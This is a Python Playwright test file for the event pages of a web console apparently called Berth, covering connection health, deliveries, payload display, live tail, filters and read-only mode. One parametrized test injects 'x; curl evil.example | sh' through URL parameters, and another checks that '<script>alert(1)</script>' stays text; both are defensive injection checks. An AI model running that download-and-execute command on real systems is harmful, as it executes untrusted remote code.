"""The pages about events, in a real browser: what they show."""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator
from html import unescape
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page, expect

from orchestrator.console.payloads import MAX_CHARACTERS
from tests.browser.conftest import Running, running, someone
from tests.browser.event_fleet import EventFleet, an_event_plane
from tests.browser.event_screenshots import FOLDER, MAX_BYTES, screenshots
from tests.browser.every_page import of_events
from tests.browser.fleet import a_fleet
from tests.browser.http import Caller
from tests.browser.test_live import update
from tests.present import present

ACME = "/tenants/acme"


@pytest.fixture(scope="module")
def scene() -> Iterator[tuple[EventFleet, Running]]:
    api = a_fleet()
    with an_event_plane(api) as plane:
        fleet = EventFleet(plane)
        with running(api, events=plane) as here:
            yield fleet, here


@pytest.fixture(scope="module")
def fleet(scene: tuple[EventFleet, Running]) -> EventFleet:
    return scene[0]


@pytest.fixture(scope="module")
def here(scene: tuple[EventFleet, Running]) -> Running:
    return scene[1]


@pytest.fixture(scope="module")
def visitor(browser: Browser, here: Running) -> Iterator[Page]:
    with someone(browser, here) as page:
        yield page


class TestTroubles:
    def test_the_first_page_leads_to_the_connections_that_fail_or_wait(self, visitor: Page, here: Running) -> None:
        visitor.goto(here.url("/"))
        waits = visitor.get_by_role("region", name="Waits for someone")
        expect(waits.get_by_text("berth doctor")).to_be_visible()
        waits.get_by_role("link", name="4 connections fail or wait: 1 disabled, 1 failing, 2 paused").click()
        expect(visitor).to_have_url(here.url("/events"))
        expect(visitor.locator("#live .state")).to_have_text(["disabled", "failing", "paused", "paused"])
        assert sorted(visitor.get_by_role("rowheader").all_inner_texts()) == ["acme", "acme", "acme", "globex"]

    def test_each_has_its_reason_and_its_page(self, visitor: Page, here: Running, fleet: EventFleet) -> None:
        visitor.goto(here.url("/events"))
        expect(visitor.get_by_text("The receiver answered 410: it wants no more events.")).to_be_visible()
        visitor.get_by_role("link", name="Legacy ERP").click()
        expect(visitor).to_have_url(here.url(f"{ACME}/connections/{fleet.legacy}"))
        expect(visitor.get_by_role("region", name="It is disabled")).to_contain_text("wants no more events")

    def test_the_box_leads_to_the_events_of_a_tenant(self, visitor: Page, here: Running) -> None:
        visitor.goto(here.url("/events"))
        visitor.get_by_label("Events of tenant").fill("globex")
        visitor.keyboard.press("Enter")
        expect(visitor).to_have_url(here.url("/tenants/globex/events"))

    def test_without_an_event_plane_the_pages_say_so_and_the_first_page_works(self, browser: Browser) -> None:
        with running(a_fleet()) as alone, someone(browser, alone) as page:
            expect(page.get_by_role("heading", level=1)).to_have_text("Overview")
            page.goto(alone.url("/events"))
            expect(page.get_by_role("heading", level=1)).to_contain_text("so Berth has no event plane")


class TestConnections:
    def test_they_are_listed_with_health_and_breaker(self, visitor: Page, here: Running) -> None:
        visitor.goto(here.url(f"{ACME}/connections"))
        shop = visitor.get_by_role("row", name="Shop")
        expect(shop).to_contain_text("failing since 33 min ago")
        expect(shop).to_contain_text("deliveries wait; next try: in 18 s")
        expect(visitor.get_by_role("row", name="Own queue")).to_contain_text("well")

    def test_a_page_has_everything_about_one(self, visitor: Page, here: Running, fleet: EventFleet) -> None:
        visitor.goto(here.url(f"{ACME}/connections/{fleet.shop}"))
        expect(visitor.get_by_role("region", name="Its deliveries fail")).to_contain_text("Next try: in 18 s")
        facts = visitor.get_by_role("region", name="Facts")
        expect(facts).to_contain_text("webhook https://shop.example.com/hooks/berth")
        how = visitor.get_by_role("region", name="Which events, and how")
        expect(how).to_contain_text("after 5 s, 5 min, 30 min")
        visitor.goto(here.url(f"{ACME}/connections/{fleet.crm}"))
        expect(how).to_contain_text('"total": {"$gte": 100}')

    def test_invalid_actions_are_greyed_with_the_reason(self, visitor: Page, here: Running, fleet: EventFleet) -> None:
        visitor.goto(here.url(f"{ACME}/connections/{fleet.legacy}"))
        pause = visitor.get_by_text("Pause it", exact=True)
        assert pause.get_attribute("aria-disabled") == "true"
        expect(visitor.locator("#why-pause")).to_have_text("It is disabled. Let it deliver again first.")
        visitor.goto(here.url(f"{ACME}/connections/{fleet.queue}"))
        expect(visitor.locator("#why-rotate")).to_have_text("Only webhooks are signed.")
        refused = Caller.with_session(here).get(f"{ACME}/connections/{fleet.queue}/do/rotate")
        assert refused.status == 409

    def test_deliveries_are_listed_by_status(self, visitor: Page, here: Running, fleet: EventFleet) -> None:
        visitor.goto(here.url(f"{ACME}/connections/{fleet.shop}"))
        row = visitor.locator(f"#delivery-{fleet.unwanted}")
        expect(row).to_contain_text("failed")
        expect(row).to_contain_text('400 {"error": "unknown field: currency"}')
        expect(visitor.get_by_text(f"berth deliveries acme {fleet.shop}", exact=True)).to_be_visible()
        visitor.get_by_role("link", name="parked").click()
        expect(visitor).to_have_url(here.url(f"{ACME}/connections/{fleet.shop}?status=parked"))
        expect(visitor.locator(f"#delivery-{fleet.parked}")).to_contain_text("when the connection delivers again")

    def test_every_button_has_its_command(self, visitor: Page, here: Running, fleet: EventFleet) -> None:
        for path in (f"{ACME}/connections/{fleet.shop}", f"{ACME}/keys", f"{ACME}/sources", f"{ACME}/events"):
            visitor.goto(here.url(path))
            items = [each for each in visitor.locator(".steps li").all() if each.locator("a.button").count()]
            assert items
            for item in items:
                assert (item.locator("code").text_content() or "").startswith("berth ")


class TestAnEvent:
    def test_every_try_is_shown_with_its_answer_and_the_next_one(
        self, visitor: Page, here: Running, fleet: EventFleet
    ) -> None:
        visitor.goto(here.url(f"{ACME}/events/{fleet.retrying}"))
        delivery = visitor.locator(f"#delivery-{fleet.shop}")
        expect(delivery).to_contain_text("retrying")
        expect(delivery).to_contain_text("in 16 min")
        tries = visitor.get_by_role("region", name="Every try").get_by_role("listitem").filter(has_text="Shop")
        assert tries.count() == 3
        expect(tries.first).to_contain_text("503, 1204 ms")
        tries.first.locator("summary").click()
        expect(tries.first.locator("pre")).to_contain_text("<body>upstream is down</body>")
        expect(visitor.get_by_text(f"berth attempts acme {fleet.retrying}")).to_be_visible()

    def test_a_payload_of_any_bytes_is_shown(self, visitor: Page, here: Running, fleet: EventFleet) -> None:
        visitor.goto(here.url(f"{ACME}/events/{fleet.bytes}"))
        payload = visitor.get_by_role("group", name="Content of the payload")
        expect(payload).to_contain_text("000040  40 41 42 43 44 45 46 47 48 49 4a 4b 4c 4d 4e 4f  @ABCDEFGHIJKLMNO")
        expect(visitor.get_by_text("The payload has 5,120 bytes.")).to_be_visible()

    def test_half_of_a_surrogate_pair_is_escaped(self, visitor: Page, here: Running, fleet: EventFleet) -> None:
        visitor.goto(here.url(f"{ACME}/events/{fleet.half}"))
        expect(visitor.get_by_role("group", name="Content of the payload")).to_contain_text(r"half \ud800 of a pair")

    def test_a_huge_payload_is_cut(self, visitor: Page, here: Running, fleet: EventFleet) -> None:
        visitor.goto(here.url(f"{ACME}/events/{fleet.huge}"))
        shown = visitor.get_by_role("group", name="Content of the payload").text_content() or ""
        assert len(shown) == MAX_CHARACTERS
        expect(visitor.get_by_text(f"berth events show acme {fleet.huge} --raw > payload")).to_be_visible()

    def test_markup_in_a_payload_stays_text(self, visitor: Page, here: Running, fleet: EventFleet) -> None:
        visitor.goto(here.url(f"{ACME}/events/{fleet.markup}"))
        expect(visitor.get_by_role("group", name="Content of the payload")).to_contain_text("<script>alert(1)</script>")

    def test_an_update_does_not_ask_for_the_payload_again(
        self, visitor: Page, here: Running, fleet: EventFleet
    ) -> None:
        visitor.goto(here.url(f"{ACME}/events/{fleet.markup}"))
        fleet.plane.asked.clear()
        update(visitor)
        assert fleet.plane.asked == [f"GET /tenants/acme/events/{fleet.markup}/attempts"]
        expect(visitor.get_by_role("group", name="Content of the payload")).to_be_visible()


def top(page: Page, event_id: str) -> float:
    """Where the row of an event is on the screen."""
    return present(page.locator(f"#open-{event_id}").bounding_box())["y"]


class TestTail:
    def test_events_come_in_without_moving_scroll_focus_or_open_rows(
        self, visitor: Page, here: Running, fleet: EventFleet
    ) -> None:
        visitor.set_viewport_size({"width": 800, "height": 400})
        visitor.goto(here.url(f"{ACME}/tail"))
        visitor.get_by_label("Type").fill("half-typed")
        opened, focused = fleet.unwanted, fleet.delivered[0]
        visitor.locator(f"#payload-{opened} summary").click()
        visitor.locator(f"#open-{focused}").focus()
        scrolled = visitor.evaluate("window.scrollY")
        assert scrolled > 0
        seen = top(visitor, focused)
        new = fleet.plane.accept({"number": 99})
        update(visitor)
        expect(visitor.locator(f"#event-{new}")).to_be_attached()
        assert visitor.evaluate("document.activeElement.id") == f"open-{focused}"
        assert visitor.evaluate(f"document.getElementById('payload-{opened}').open")
        assert visitor.get_by_label("Type").input_value() == "half-typed"
        # Browsers scroll by whole points.
        assert abs(top(visitor, focused) - seen) < 1

    def test_a_list_that_is_held_stays_as_it_is(self, visitor: Page, here: Running, fleet: EventFleet) -> None:
        visitor.goto(here.url(f"{ACME}/tail"))
        visitor.get_by_role("link", name="Hold the list").click()
        expect(visitor.get_by_text("The list is held.")).to_be_visible()
        assert visitor.locator("#live").get_attribute("data-hx-get") is None
        new = fleet.plane.accept({"number": 100})
        visitor.reload()
        assert visitor.locator(f"#event-{new}").count() == 0
        visitor.get_by_role("link", name="Follow again").click()
        expect(visitor.locator(f"#event-{new}")).to_be_attached()

    def test_filters_are_in_the_address_and_in_the_command(
        self, visitor: Page, here: Running, fleet: EventFleet
    ) -> None:
        visitor.goto(here.url(f"{ACME}/tail"))
        expect(visitor.get_by_text("berth events tail acme", exact=True)).to_be_visible()
        visitor.get_by_label("Status").select_option("failed")
        visitor.get_by_role("button", name="Filter").click()
        expect(visitor.get_by_text("berth events list acme --status failed")).to_be_visible()
        assert visitor.get_by_role("rowheader").all_inner_texts() == [fleet.unwanted]
        visitor.goto(here.url(f"{ACME}/tail?source={fleet.scanner}"))
        assert sorted(visitor.get_by_role("rowheader").all_inner_texts()) == sorted([fleet.half, fleet.bytes])

    def test_a_filter_that_cannot_be_is_explained(self, visitor: Page, here: Running) -> None:
        visitor.goto(here.url(f"{ACME}/tail?since=yesterday"))
        expect(visitor.get_by_role("alert")).to_contain_text("From: 'yesterday' is not a time")
        assert visitor.get_by_label("From").input_value() == "yesterday"


def test_pages_about_events_can_be_read_without_javascript(browser: Browser, here: Running, fleet: EventFleet) -> None:
    with someone(browser, here, java_script_enabled=False) as page:
        page.goto(here.url(f"{ACME}/tail"))
        page.locator(f"#payload-{fleet.unwanted} summary").click()
        expect(page.locator(f"#payload-{fleet.unwanted} pre")).to_contain_text('"currency": "EUR"')
        page.goto(here.url(f"{ACME}/connections/{fleet.shop}"))
        expect(page.locator(f"#delivery-{fleet.unwanted}")).to_be_visible()


ANOTHER_COMMAND = "x; curl evil.example | sh"


@pytest.mark.parametrize(
    "path",
    [
        *(f"{ACME}/tail?{name}={{}}" for name in ("kind", "type", "status", "source", "form", "since", "until")),
        *(f"{ACME}/replays/plan?{name}={{}}" for name in ("to", "since", "until", "sends")),
        f"{ACME}/replays/do/start?to={{0}}&since={{0}}&until={{0}}",
        *(
            f"/tenants/{{}}/{page}"
            for page in (
                *("events", "tail", "connections", "sources", "keys", "replays", "replays/plan?to=api&since=1h"),
                *("events/do/settings", "connections/do/create", "sources/do/create", "forms/do/create"),
                *("keys/do/create", "replays/do/start?to=api&since=1&until=2"),
            )
        ),
    ],
)
def test_the_command_to_copy_runs_nothing_that_an_address_has_brought(here: Running, path: str) -> None:
    body = Caller.with_session(here).get(path.format(quote(ANOTHER_COMMAND, safe=""))).body
    commands = [unescape(part.split('"')[0]) for part in body.split('data-copy="')[1:]]
    assert not [each for each in commands if "curl" in shlex.split(each)]


def test_a_read_only_console_has_no_buttons_and_refuses(fleet: EventFleet, here: Running, browser: Browser) -> None:
    with running(here.api, events=fleet.plane, read_only=True) as looking, someone(browser, looking) as page:
        for path in (each.path for each in of_events(fleet).values() if "/do/" not in each.path):
            page.goto(looking.url(path))
            assert page.locator("#live a[href*='/do/']").count() == 0, path
        caller = Caller.with_session(looking)
        pause = f"{ACME}/connections/{fleet.queue}/do/pause"
        assert caller.post(pause, caller.hidden(pause)).status == 403
    assert (
        fleet.plane.operate("GET /connections/{connectionId}", ids={"connectionId": fleet.queue})["status"] == "active"
    )


def test_the_documents_show_screenshots_that_these_tests_make(
    browser: Browser, here: Running, fleet: EventFleet
) -> None:
    document = (FOLDER.parents[1] / "console.md").read_text(encoding="utf-8")
    made = screenshots(browser, here, fleet)
    shown = set(re.findall(r"screenshots/events/([\w-]+)\.png", document))
    assert shown == made.keys() == {file.stem for file in FOLDER.glob("*.png")}
    for file in FOLDER.glob("*.png"):
        assert file.read_bytes()[:6] == made[file.stem][:6]
        assert file.stat().st_size < MAX_BYTES
